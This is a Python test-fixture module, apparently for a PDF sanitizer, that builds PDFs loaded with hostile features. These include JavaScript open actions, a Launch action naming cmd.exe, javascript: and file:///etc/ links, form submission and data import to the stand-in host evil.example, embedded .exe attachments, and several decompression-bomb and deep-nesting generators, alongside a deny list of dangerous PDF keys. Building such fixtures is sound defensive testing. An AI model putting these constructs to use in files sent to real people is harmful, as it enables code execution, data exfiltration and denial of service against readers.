"""PDFs as people and attackers send them, made with pikepdf; what was kept is read with pypdf."""

import io
import re
import warnings
import zlib
from collections.abc import Callable, Iterator
from typing import Any

import pikepdf
import pypdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from pypdf.generic import ArrayObject, ByteStringObject, DictionaryObject, IndirectObject, StreamObject
from weasyprint import HTML

from tests.pictures.images import exif, file_of, photograph

MARK = "HIDDEN-57.7089N"
"""Stands in everything that has to go, and in nothing that stays."""
RUN = String(f"app.alert('{MARK}')")
ELSEWHERE = String(f"//evil.example/{MARK}.pdf")
MEGABYTE = 1024 * 1024


def plain(*words: str) -> bytes:
    """As a printer driver writes it: a page for each word, no tags, no language."""
    pdf = Pdf.new()
    for word in words or ("Hello",):
        _add_page(pdf, word)
    return saved(pdf)


def _add_page(pdf: Pdf, word: str) -> None:
    page = pdf.add_blank_page(page_size=(595, 842)).obj
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.Resources = Dictionary(Font=Dictionary(F1=pdf.make_indirect(font)))
    page.Contents = Stream(pdf, f"BT /F1 24 Tf 72 720 Td ({word}) Tj ET".encode())


def saved(pdf: Pdf, **how: Any) -> bytes:
    file = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", pikepdf.PageCopyWarning)  # of fields without a form, which is what is wanted
        pdf.save(file, static_id=True, **how)
    return file.getvalue()


def tagged(*, body: str = "", language: str = "sv") -> bytes:
    """As a good word processor writes it: tags, a language, links out and inside, bookmarks, words on its author."""
    return HTML(
        string=f"""<html lang="{language}"><title>{MARK}</title><meta name=author content="{MARK}">
        <meta name=generator content="{MARK}"><h1 id=top>Program</h1>
        <p><a href="https://example.org/law">The law</a> <a href="mailto:info@example.org">Mail</a>
        <a href="tel:+46123456">Call</a> <a href="#top">Up</a><table><tr><th>09:00<td>Lagen</table>{body}"""
    ).write_pdf(pdf_variant="pdf/ua-1", custom_metadata=True)


# What is read of them --------------------------------------------------------------------------------------------


def objects(content: bytes) -> Iterator[Any]:
    """Every object in the file, whether anything leads to it or not, and everything in it."""
    reader = pypdf.PdfReader(io.BytesIO(content), strict=True)
    work = [reader.trailer]
    work += [reader.get_object(IndirectObject(n, 0, reader)) for n in range(1, reader.trailer["/Size"])]
    while work:
        thing = work.pop()
        yield thing
        if isinstance(thing, DictionaryObject):
            work += [part for part in thing.values() if not isinstance(part, IndirectObject)]
        elif isinstance(thing, ArrayObject):
            work += [part for part in thing if not isinstance(part, IndirectObject)]


def dictionaries(content: bytes) -> list[DictionaryObject]:
    return [thing for thing in objects(content) if isinstance(thing, DictionaryObject)]


def keys(content: bytes) -> set[str]:
    return {key for thing in dictionaries(content) for key in thing}


def told(content: bytes) -> bytes:
    """All that stands in it: names, strings, and what is unpacked of its streams."""
    found = [content]
    for thing in objects(content):
        if isinstance(thing, StreamObject):
            found.append(thing.get_data() if thing.get("/Filter") == "/FlateDecode" else thing._data)
        if isinstance(thing, DictionaryObject):
            found += [str(key).encode() for key in thing]
        elif isinstance(thing, ByteStringObject):
            found.append(bytes(thing))
        elif not isinstance(thing, ArrayObject):
            found.append(str(thing).encode(errors="replace"))
    return b"\n".join(found)


def actions(content: bytes) -> set[tuple[str, str]]:
    """What happens in it, and where that leads."""
    return {
        (str(thing["/S"]), str(thing.get("/URI", "")))
        for thing in dictionaries(content)
        if "/S" in thing and {"/URI", "/D", "/JS", "/F", "/Win", "/N", "/R"} & thing.keys()
    }


FORBIDDEN = set(
    """/AA /OpenAction /JS /JavaScript /EmbeddedFiles /EF /AF /RF /UF /FS /Metadata /PieceInfo /Thumb /XFA /AcroForm /FT
    /Info /OCProperties /OC /OCGs /OPI /Alternates /RichMediaContent /3DD /3DV /Rendition /Sound /Movie /Collection
    /Perms /DSS /Threads /Author /Producer /Creator /CreationDate /ModDate /Win /Requirements /Extensions /Legal
    /SpiderInfo /OutputIntents /PresSteps /Trans /Dur /LastModified /Ref /PS /Popup /RC /AP /MK /DA""".split()
)


def is_bare(content: bytes) -> bool:
    """Pages, what they are drawn with, tags and links, and nothing else."""
    kinds = {str(thing.get("/Subtype")) for thing in dictionaries(content) if "/Rect" in thing}
    return (
        not keys(content) & FORBIDDEN
        and kinds <= {"/Link"}
        and {kind for kind, _where in actions(content)} <= {"/URI", "/GoTo"}
        and MARK.encode() not in told(content)
    )


# What is hidden --------------------------------------------------------------------------------------------------

Change = Callable[[Pdf], Any]


def _action(kind: str, **more: Any) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name(f"/{kind}"), **more)


def _script() -> Dictionary:
    return _action("JavaScript", JS=RUN)


def _embedded(pdf: Pdf) -> Dictionary:
    content = Stream(pdf, MARK.encode(), Type=Name.EmbeddedFile)
    return Dictionary(Type=Name.Filespec, F=String(f"{MARK}.exe"), UF=String(f"{MARK}.exe"), EF=Dictionary(F=content))


def _annotation(kind: str, **more: Any) -> Dictionary:
    return Dictionary(
        Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=Array([0, 0, 99, 99]), T=String(MARK), NM=String(MARK), **more
    )


def _laid_on(kind: str, **more: Any) -> Change:
    def change(pdf: Pdf) -> None:
        values = {name: value(pdf) if callable(value) else value for name, value in more.items()}
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(_annotation(kind, **values))])

    return change


def _linked(action: Callable[[Pdf], Any]) -> Change:
    return _laid_on("Link", A=action)


def _of_root(name: str, value: Callable[[Pdf], Any]) -> Change:
    return lambda pdf: pdf.Root.__setitem__(f"/{name}", value(pdf))


def _of_page(name: str, value: Callable[[Pdf], Any]) -> Change:
    return lambda pdf: pdf.pages[0].obj.__setitem__(f"/{name}", value(pdf))


def _form(pdf: Pdf) -> None:
    field = _annotation("Widget", FT=Name.Tx, V=String(MARK), A=_script(), AA=Dictionary(K=_script()))
    field = pdf.make_indirect(field)
    pdf.pages[0].obj.Annots = Array([field])
    packet = Stream(pdf, f"<xdp:xdp><script>{MARK}</script></xdp:xdp>".encode())
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=packet, CO=Array([field]), DA=String(MARK))


def _tag_that_leads_to_a_form(pdf: Pdf) -> None:
    field = pdf.make_indirect(_annotation("Widget", FT=Name.Btn, A=_script(), AA=Dictionary(U=_script())))
    root = pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot))
    leaf = Dictionary(Type=Name.OBJR, Obj=field, Pg=pdf.pages[0].obj)
    root.K = pdf.make_indirect(
        Dictionary(Type=Name.StructElem, S=Name.Form, P=root, K=leaf, AF=Array([_embedded(pdf)]), AA=_script())
    )
    pdf.Root.StructTreeRoot = root


def _page_of_no_document(pdf: Pdf) -> Any:
    return pdf.make_indirect(
        Dictionary(Type=Name.Page, Contents=Stream(pdf, MARK.encode()), AA=Dictionary(O=_script()))
    )


def _tag_on_such_a_page(pdf: Pdf) -> Dictionary:
    element = Dictionary(Type=Name.StructElem, S=Name.P, Pg=_page_of_no_document(pdf), K=0)
    return Dictionary(Type=Name.StructTreeRoot, K=element)


def _places_on_such_pages(pdf: Pdf) -> Dictionary:
    hidden = [_page_of_no_document(pdf) for _ in range(3)]
    return Dictionary(
        A=Array([hidden[0], Name.Fit]), B=Dictionary(D=Array([hidden[1], Name.Fit])), C=Dictionary(D=hidden[2])
    )


def _layer(pdf: Pdf) -> None:
    group = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String(MARK)))
    pdf.Root.OCProperties = Dictionary(OCGs=Array([group]), D=Dictionary(OFF=Array([group]), Creator=String(MARK)))
    page = pdf.pages[0].obj
    page.Resources.Properties = Dictionary(L1=group)
    page.Resources.XObject = Dictionary(X1=Stream(pdf, b"", Type=Name.XObject, Subtype=Name.Form, OC=group))
    page.Contents = Stream(pdf, b"/OC /L1 BDC BT /F1 24 Tf 72 720 Td (Draft) Tj ET EMC")


def _drawing(**more: Any) -> Change:
    def change(pdf: Pdf) -> None:
        values = {name: value(pdf) if callable(value) else value for name, value in more.items()}
        kind = values.pop("Subtype", Name.Form)
        drawing = Stream(pdf, b"", Type=Name.XObject, Subtype=kind, BBox=Array([0, 0, 1, 1]), **values)
        pdf.pages[0].obj.Resources.XObject = Dictionary(X1=drawing)

    return change


def _text_in_another_file(pdf: Pdf) -> None:
    text = pdf.pages[0].obj.Contents
    text.F, text.FFilter = ELSEWHERE, Name.FlateDecode


def _photograph(pdf: Pdf) -> None:
    content = file_of(photograph(), "JPEG", exif=exif(), comment=MARK.encode())
    assert MARK.encode() in content
    picture = Stream(pdf, content + MARK.encode(), Type=Name.XObject, Subtype=Name.Image, Width=64, Height=48)
    picture.ColorSpace, picture.BitsPerComponent, picture.Filter = Name.DeviceRGB, 8, Name.DCTDecode
    pdf.pages[0].obj.Resources.XObject = Dictionary(X1=picture)


def _words_on_it(pdf: Pdf) -> None:
    with pdf.open_metadata() as words:
        words["dc:creator"] = [MARK]
        words["pdf:Producer"] = words["xmp:CreatorTool"] = MARK
    for name in ("Author", "Producer", "Creator", "Title", "Keywords", "Company"):
        pdf.docinfo[f"/{name}"] = MARK


def _web(_pdf: Pdf) -> Dictionary:
    return _action("URI", URI=String("https://example.org/"))


def _bookmark(action: Callable[[Pdf], Any]) -> Change:
    def change(pdf: Pdf) -> None:
        root = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
        root.First = root.Last = pdf.make_indirect(Dictionary(Title=String("Here"), Parent=root, A=action(pdf)))
        pdf.Root.Outlines = root

    return change


def _names(pdf: Pdf) -> Dictionary:
    return Dictionary(
        JavaScript=Dictionary(Names=Array([String("0"), _script()])),
        EmbeddedFiles=Dictionary(Names=Array([String(MARK), _embedded(pdf)])),
        Dests=Dictionary(Names=Array([String("x"), _embedded(pdf), String("y"), Stream(pdf, MARK.encode())])),
        Pages=Dictionary(Names=Array([String("0"), Stream(pdf, MARK.encode())])),
        AP=Dictionary(Names=Array([String("0"), Stream(pdf, MARK.encode())])),
    )


HOSTILE: dict[str, Change] = {
    "script when it is opened": _of_root("OpenAction", lambda _pdf: _script()),
    "script of the document": _of_root("AA", lambda _pdf: Dictionary(WC=_script(), DP=_script())),
    "scripts, files and templates by name": _of_root("Names", _names),
    "script of a page": _of_page("AA", lambda _pdf: Dictionary(O=_script(), C=_script())),
    "script in a link": _linked(lambda _pdf: _script()),
    "script after a link": _linked(
        lambda _pdf: _action("URI", URI=String("https://example.org/"), Next=Array([_script()]))
    ),
    "script in a web address": _linked(lambda _pdf: _action("URI", URI=String(f"javascript:alert('{MARK}')"))),
    "script with a space before it": _linked(lambda _pdf: _action("URI", URI=String(f" \tjavascript:{MARK}"))),
    "file of the reader": _linked(lambda _pdf: _action("URI", URI=String(f"file:///etc/{MARK}"))),
    "data in a web address": _linked(lambda _pdf: _action("URI", URI=String(f"data:text/html,{MARK}"))),
    "web address on two lines": _linked(lambda _pdf: _action("URI", URI=String(f"https://example.org/\r\n{MARK}"))),
    "web address that is no text": _linked(lambda _pdf: _action("URI", URI=Dictionary(JS=RUN))),
    "program": _linked(
        lambda _pdf: _action("Launch", F=ELSEWHERE, Win=Dictionary(F=String("cmd.exe"), P=String(MARK)))
    ),
    "form that is sent": _linked(lambda _pdf: _action("SubmitForm", F=ELSEWHERE, Flags=4)),
    "data that is fetched": _linked(lambda _pdf: _action("ImportData", F=ELSEWHERE)),
    "another document": _linked(lambda _pdf: _action("GoToR", F=ELSEWHERE, D=Array([0, Name.Fit]), NewWindow=True)),
    "document inside of it": _linked(
        lambda _pdf: _action("GoToE", F=ELSEWHERE, D=Array([0, Name.Fit]), T=Dictionary(R=Name.C))
    ),
    "article": _linked(lambda _pdf: _action("Thread", F=ELSEWHERE, D=0)),
    "film that starts": _linked(
        lambda _pdf: _action("Rendition", OP=0, JS=RUN, R=Dictionary(S=Name.MR, N=String(MARK)))
    ),
    "layer that shows": _linked(lambda _pdf: _action("SetOCGState", State=Array([Name.ON]), JS=RUN)),
    "fields that hide": _linked(lambda _pdf: _action("Hide", T=String(MARK), JS=RUN)),
    "menu of the program": _linked(lambda _pdf: _action("Named", N=Name.Print, JS=RUN)),
    "solid": _linked(lambda _pdf: _action("GoTo3DView", TA=Dictionary(T=String(MARK)), V=0)),
    "link with more than one thing to do": _laid_on(
        "Link", A=_web, AA=lambda _pdf: Dictionary(E=_script()), PA=lambda _pdf: _script()
    ),
    "comment": _laid_on("Text", Contents=String(MARK), Popup=lambda _pdf: Dictionary(Open=True), RC=String(MARK)),
    "text laid on it": _laid_on("FreeText", Contents=String(MARK), AP=lambda _pdf: Dictionary()),
    "stamp": _laid_on("Stamp", AP=lambda pdf: Dictionary(N=Stream(pdf, MARK.encode()))),
    "what was painted over": _laid_on("Redact", OverlayText=String(MARK)),
    "file pinned to it": _laid_on("FileAttachment", FS=_embedded),
    "sound": _laid_on("Sound", Sound=lambda pdf: Stream(pdf, MARK.encode(), R=8000)),
    "film": _laid_on("Movie", Movie=lambda pdf: Dictionary(F=_embedded(pdf)), A=True),
    "screen": _laid_on("Screen", A=lambda _pdf: _action("Rendition", JS=RUN), AA=lambda _pdf: Dictionary(PV=_script())),
    "rich media": _laid_on("RichMedia", RichMediaContent=lambda pdf: Dictionary(Assets=_embedded(pdf))),
    "thing in three dimensions": _laid_on("3D", **{"3DD": lambda pdf: Stream(pdf, MARK.encode(), OnInstantiate=RUN)}),
    "field without a form": _laid_on(
        "Widget", FT=Name.Btn, A=lambda _pdf: _script(), MK=lambda _pdf: Dictionary(CA=String(MARK))
    ),
    "form": _form,
    "tag that leads to a form": _tag_that_leads_to_a_form,
    "tags in a file": _of_root("StructTreeRoot", lambda pdf: Stream(pdf, MARK.encode(), Type=Name.StructTreeRoot)),
    "tag on a page that is in no document": _of_root("StructTreeRoot", _tag_on_such_a_page),
    "places on pages that are in no document": _of_root("Dests", _places_on_such_pages),
    "label that is a page": _of_root("PageLabels", lambda pdf: Dictionary(Nums=Array([0, _page_of_no_document(pdf)]))),
    "layer that is not shown": _layer,
    "bookmark with a script": _bookmark(lambda _pdf: _script()),
    "bookmark to a program": _bookmark(lambda _pdf: _action("Launch", F=ELSEWHERE)),
    "who wrote it": _words_on_it,
    "what an editor keeps": _of_page("PieceInfo", lambda pdf: Dictionary(X=Dictionary(Private=_embedded(pdf)))),
    "small picture of a page": _of_page("Thumb", lambda pdf: Stream(pdf, MARK.encode())),
    "metadata of a page": _of_page("Metadata", lambda pdf: Stream(pdf, MARK.encode(), Type=Name.Metadata)),
    "files of a page": _of_page("AF", lambda pdf: Array([_embedded(pdf)])),
    "articles": _of_root("Threads", lambda _pdf: Array([Dictionary(I=Dictionary(Title=String(MARK)))])),
    "portfolio": _of_root("Collection", lambda _pdf: Dictionary(D=String(MARK), View=Name.H)),
    "signatures": _of_root(
        "Perms", lambda _pdf: Dictionary(DocMDP=Dictionary(Contents=String(MARK), Name=String(MARK)))
    ),
    "where all addresses begin": _of_root("URI", lambda _pdf: Dictionary(Base=String(f"https://evil.example/{MARK}/"))),
    "what only packed things have": _of_page("Filter", lambda pdf: Dictionary(JS=RUN, EF=_embedded(pdf))),
    "what no list knows": _of_root("XXYZ", lambda pdf: Stream(pdf, MARK.encode())),
    "text in another file": _text_in_another_file,
    "drawing from another file": _drawing(Ref=lambda pdf: Dictionary(F=_embedded(pdf), Page=0)),
    "drawing with metadata": _drawing(Metadata=lambda pdf: Stream(pdf, MARK.encode())),
    "drawing with its print shop": _drawing(OPI=lambda _pdf: Dictionary(V2=Dictionary(F=ELSEWHERE))),
    "drawing for another occasion": _drawing(Alternates=lambda pdf: Array([Dictionary(Image=_embedded(pdf))])),
    "program for printers": _drawing(Subtype=Name.PS, Level1=lambda pdf: Stream(pdf, MARK.encode())),
    "photograph that knows where": _photograph,
}


def hostile(change: Change, content: bytes = b"") -> bytes:
    with Pdf.open(io.BytesIO(content or plain())) as pdf:
        change(pdf)
        return saved(pdf)


def with_one_more(name: str, value: bytes, content: bytes = b"") -> bytes:
    """By hand: `value` as it stands, in the first object of the document."""
    whole = saved(Pdf.open(io.BytesIO(content or plain())), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    place = whole.index(b"/Type /Catalog")
    grown = whole[:place] + b"/" + name.encode() + b" " + value + b" " + whole[place:]
    return by_hand(grown)


def by_hand(content: bytes) -> bytes:
    """With a table of where each object is, for what was changed since."""
    body = content[: content.rindex(b"xref", 0, content.rindex(b"startxref"))]
    found = {int(match[1]): match.start() for match in re.finditer(rb"^(\d+) 0 obj", body, re.MULTILINE)}
    trailer = content[content.index(b"trailer", len(body)) : content.rindex(b"startxref")]
    table = b"".join(b"%010d 00000 n \n" % found[number] for number in sorted(found))
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(found) + 1)
    return body + head + table + trailer + b"startxref\n%d\n%%%%EOF\n" % len(body)


# What is too much ------------------------------------------------------------------------------------------------


def unpacking_to(megabytes: int) -> bytes:
    """Flate, a kilobyte for each megabyte of zeros."""
    packer = zlib.compressobj(9)
    head = packer.compress(b"\0" * MEGABYTE) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(b"\0" * MEGABYTE) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + again * (megabytes - 1) + packer.flush()


def bomb_on_a_page(megabytes: int, *, times: int = 1) -> bytes:
    pdf = Pdf.open(io.BytesIO(plain()))
    packed = unpacking_to(megabytes)
    streams = [Stream(pdf, b"") for _ in range(times)]
    for number, stream in enumerate(streams):
        stream.write(packed + b"%d" % number, filter=Name.FlateDecode)
    pdf.pages[0].obj.Contents = Array(streams)
    return saved(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def bomb_in_a_bomb() -> bytes:
    pdf = Pdf.open(io.BytesIO(plain()))
    stream = pdf.pages[0].obj.Contents = Stream(pdf, b"")
    stream.write(zlib.compress(unpacking_to(3000)), filter=Array([Name.FlateDecode, Name.FlateDecode]))
    return saved(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def bomb_below_a_picture() -> bytes:
    pdf = Pdf.open(io.BytesIO(plain()))
    picture = Stream(pdf, b"", Type=Name.XObject, Subtype=Name.Image, Width=9, Height=9)
    picture.write(unpacking_to(3000), filter=Array([Name.FlateDecode, Name.JPXDecode]))
    pdf.pages[0].obj.Resources.XObject = Dictionary(X1=picture)
    return saved(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def bomb_in_the_table() -> bytes:
    """It goes off when the file is opened."""
    head = b"%PDF-1.5\n"
    packed = unpacking_to(3000)
    about = b"1 0 obj\n<</Type/XRef/Filter/FlateDecode/W[1 4 2]/Size 2/Root 2 0 R/Length %d>>\nstream\n" % len(packed)
    return head + about + packed + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(head)


def vast_picture() -> bytes:
    pdf = Pdf.open(io.BytesIO(plain()))
    picture = Stream(pdf, b"\xff\xd8\xff\xd9", Type=Name.XObject, Subtype=Name.Image, Width=60000, Height=60000)
    picture.Filter = Name.DCTDecode
    pdf.pages[0].obj.Resources.XObject = Dictionary(X1=picture)
    return saved(pdf)


def deep_pages(depth: int) -> bytes:
    """Each branch of the tree of pages has but one branch."""
    pdf = Pdf.open(io.BytesIO(plain()))
    below = pdf.pages[0].obj
    for _ in range(depth):
        below = pdf.make_indirect(Dictionary(Type=Name.Pages, Count=1, Kids=Array([below])))
    pdf.Root.Pages.Kids = Array([below])
    return saved(pdf)


def deep_tags(depth: int) -> bytes:
    pdf = Pdf.open(io.BytesIO(tagged()))
    below = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Span, ActualText=String("Deep below")))
    for _ in range(depth):
        below = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Div, K=below))
    pdf.Root.StructTreeRoot.K = below
    return saved(pdf)
